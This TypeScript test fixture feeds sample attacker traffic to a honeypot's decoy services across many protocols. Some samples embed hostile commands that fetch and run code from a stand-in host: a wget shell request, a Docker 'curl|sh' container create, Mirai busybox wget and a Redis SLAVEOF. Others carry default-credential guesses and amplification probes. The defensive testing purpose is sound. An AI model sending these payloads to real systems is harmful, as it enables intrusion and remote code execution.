import type { DecoyProtocol } from '#model/sensor/profile.ts'
import { octets, sequence, tagged } from '../der.ts'
import recorded from './recorded.json' with { type: 'json' }
import { Rehearsal } from './rehearsal.ts'

/** What a client says to a decoy, in the pieces it was sent in. */
export interface Sample {
  protocol: DecoyProtocol
  transport: 'tcp' | 'udp'
  client: string
  said: Buffer[]
}

const text = (protocol: DecoyProtocol, client: string, ...said: string[]): Sample => ({
  protocol,
  transport: 'tcp',
  client,
  said: said.map((one) => Buffer.from(one, 'latin1')),
})
const datagram = (protocol: DecoyProtocol, client: string, said: Buffer | string): Sample => ({
  protocol,
  transport: 'udp',
  client,
  said: [Buffer.from(said as string, 'latin1')],
})
const lines = (...all: string[]): string => all.map((line) => `${line}\r\n`).join('')
const base64 = (said: string): string => Buffer.from(said).toString('base64')

/** An NTLM message of type 3 for a user: fields of domain, user and workstation, texts behind. */
const authenticate = (user: string): Buffer => {
  const message = Buffer.alloc(64)
  message.write('NTLMSSP\0', 'latin1')
  message.writeUInt32LE(3, 8)
  const name = Buffer.from(user, 'utf16le')
  message.writeUInt16LE(name.length, 36)
  message.writeUInt32LE(64, 40)
  return Buffer.concat([message, name])
}
const negotiate = Buffer.concat([Buffer.from('NTLMSSP\0'), Buffer.from([1, 0, 0, 0]), Buffer.alloc(20)])
const tsRequest = (message: Buffer): Buffer =>
  sequence(
    tagged(0xa0, tagged(2, Buffer.from([6]))),
    tagged(0xa1, sequence(sequence(tagged(0xa0, octets(message))))),
  )
const rdpNla = Buffer.from('030000130ee000000000000100080002000000', 'hex')

const memcachedStats = Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 1, 0, 0]), Buffer.from('stats\r\n')])

const written: Sample[] = [
  text(
    'http',
    'curl, a worm and a form',
    'GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /shell?cd+/tmp;wget+http://192.0.2.9/x HTTP/1.1\r\n\r\n',
    'POST /login HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 15\r\n\r\nuser=a&passwd=b',
    'POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nuser=\r\n0\r\n\r\nHEAD / HTTP/1.0\r\n\r\n',
  ),
  text('https', 'curl', `GET /x HTTP/1.1\r\nAuthorization: Basic ${base64('admin:admin')}\r\n\r\n`),
  text(
    'docker',
    'a worm',
    'POST /v1.24/containers/create HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 75\r\n\r\n{"Image":"alpine","Cmd":["sh","-c","curl http://192.0.2.9/d|sh"],"x":"abcd"}',
  ),
  text(
    'elasticsearch',
    'CVE-2015-1427',
    'POST /_search?pretty HTTP/1.1\r\nContent-Length: 40\r\n\r\n{"size":1,"script_fields":{"x":{"a":1}}}',
    'GET / HTTP/1.0\r\n\r\n',
  ),
  text(
    'telnet',
    'Mirai',
    '\xff\xfd\x01\xff\xfb\x18\xff\xfa\x18\0vt\xff\xf0root\r\nroot\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n',
    "/bin/busybox wget http://192.0.2.9/x; echo -e '\\x41'\r\nexit\r\n",
  ),
  text('telnet', 'wrong passwords', 'a\nb\nc\rd\re\0\r\nf\r\0'),
  text(
    'ftp',
    'ftp',
    lines('USER root', 'PASS root', 'SYST', 'PORT 192,0,2,9,0,25', 'PASV', 'STOR x', 'QUIT'),
  ),
  text(
    'smtp',
    'swaks',
    lines(
      'EHLO a',
      `AUTH PLAIN ${base64('\0root\0root')}`,
      'MAIL FROM:<a@b>',
      'RCPT TO:<c@d>',
      'DATA',
      'Subject: x',
      '',
      '.x',
      '.',
      'QUIT',
    ),
  ),
  text(
    'smtp',
    'hydra',
    lines('EHLO a', 'AUTH LOGIN', base64('root'), base64('x'), 'AUTH LOGIN', '*', 'HELP'),
  ),
  text('pop3', 'curl', lines('CAPA', 'AUTH PLAIN', base64('\0root\0root'), 'STAT', 'LIST', 'RETR 1', 'QUIT')),
  text(
    'imap',
    'curl',
    lines('a CAPABILITY', 'b LOGIN "root" root', 'c LIST "" *', 'd SELECT INBOX', 'e LOGOUT'),
  ),
  text(
    'redis',
    'a worm',
    lines(
      '*3',
      '$3',
      'SET',
      '$1',
      'x',
      '$22',
      'curl http://192.0.2.9/',
      'SLAVEOF 192.0.2.9 80',
      'CONFIG GET *',
      'QUIT',
    ),
  ),
  text(
    'memcached',
    'telnet',
    lines('stats', 'set a 0 0 5', 'hello', 'get a', 'set b 0 0 3 noreply', 'abc', 'version', 'quit'),
  ),
  text(
    'sip',
    'sipvicious',
    'REGISTER sip:a SIP/2.0\r\nVia: SIP/2.0/TCP a\r\nTo: <sip:1@a>\r\nContent-Length: 4\r\n\r\nabcdOPTIONS sip:a SIP/2.0\r\nVia: x\r\n\r\n',
  ),
  text('dns', 'dig', '\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01'),
  text('catch-all', 'anybody', 'GET / HTTP/1.0\r\n\r\n'),
  text('catch-all', 'anybody', 'G\x01\x02 anything at all'),
  text('modbus', 'a write', '\0\x01\0\0\0\x06\x01\x06\0\x01\0\x03\0\x02\0\0\0\x05\x01\x2b\x0e\x01\0'),
  text('vnc', 'an old client', 'RFB 003.003\n', '0123456789abcdef'),
  text(
    'mysql',
    'hydra, with another plugin',
    '\x3a\0\0\x01\x85\xa6\xff\x01\0\0\0\x01\x21'.padEnd(36, '\0') +
      'root\0\x03abcsha256_password'.padEnd(26, '\0'),
    '\x14\0\0\x03abcdefghijabcdefghij\x01\0\0\0\x0e',
  ),
  text(
    'postgresql',
    'a driver',
    '\0\0\0\x0f\0\x03\0\0user\0b\0',
    'p\0\0\0\x06x\0P\0\0\0\x10\0select 1\0\0\0B\0\0\0\x04D\0\0\0\x04E\0\0\0\x04S\0\0\0\x04X\0\0\0\x04',
  ),
  {
    protocol: 'rdp',
    transport: 'tcp',
    client: 'with NLA',
    said: [rdpNla, tsRequest(negotiate), tsRequest(authenticate('Administrator'))],
  },
  datagram('memcached', 'an amplifier', memcachedStats),
  datagram('ntp', 'monlist', Buffer.from([0x17, 0, 3, 42, 0, 0, 0, 0])),
  datagram('ntp', 'readvar', Buffer.from([0x16, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0])),
  datagram('dns', 'ANY', '\x12\x34\x01\0\0\x01\0\0\0\0\0\x01\0\0\xff\0\x01\0\0\x29\x10\0\0\0\0\0\0\0'),
  datagram(
    'ssdp',
    'M-SEARCH',
    'M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:ssdp:all\r\nMan:"ssdp:discover"\r\nMX:3\r\n\r\n',
  ),
  datagram(
    'sip',
    'REGISTER',
    'REGISTER sip:a SIP/2.0\r\nv: SIP/2.0/UDP a;rport\r\nf: <sip:1@a>;tag=1\r\nt: <sip:1@a>\r\ni: 1\r\nCSeq: 1 REGISTER\r\nAuthorization: Digest username="100", realm="a"\r\n\r\n',
  ),
  datagram('catch-all', 'anybody', 'anything at all'),
]

export const samples: readonly Sample[] = [
  ...recorded.map(({ said, ...one }) => ({
    ...(one as Omit<Sample, 'said'>),
    said: said.map((hex) => Buffer.from(hex, 'hex')),
  })),
  ...written,
]

/** A decoy that is asked by a sample: it lets in root with its name, and guests with anything. */
export const rehearsalFor = ({ protocol, transport }: Pick<Sample, 'protocol' | 'transport'>): Rehearsal =>
  new Rehearsal(
    protocol,
    { hostname: 'host-1', ...(protocol === 'catch-all' && transport === 'udp' && { banner: 'hello' }) },
    [
      { user: 'root', password: 'root' },
      { user: 'postgres', password: '*' },
      { user: 'guest', password: '*' },
    ],
    transport,
  )
